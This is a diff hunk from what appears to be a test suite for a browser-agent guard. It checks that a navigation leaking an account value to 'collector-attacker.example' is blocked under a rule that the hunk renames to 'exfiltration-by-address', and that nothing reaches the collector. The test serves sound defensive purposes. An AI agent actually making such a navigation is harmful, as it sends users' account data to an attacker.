@@ -117,7 +117,7 @@ test('an agent that is let in declares itself and asks in advance; nothing is do
     const away = { kind: 'navigate', dest: { url: `https://collector-attacker.example/c?d=${account}` } };
     const blocked = await agent('agent.check', { tab, action: away });
     assert.equal(blocked.verdict, 'block', JSON.stringify(blocked));
-    assert.ok(blocked.rules.includes('exfiltration-after-login'));
+    assert.ok(blocked.rules.includes('exfiltration-by-address'));
     assert.ok(!JSON.stringify(blocked).includes(account), 'the answer tells the data');
     assert.deepEqual(leaked(sites.collector.records, { account }), []);
   }),
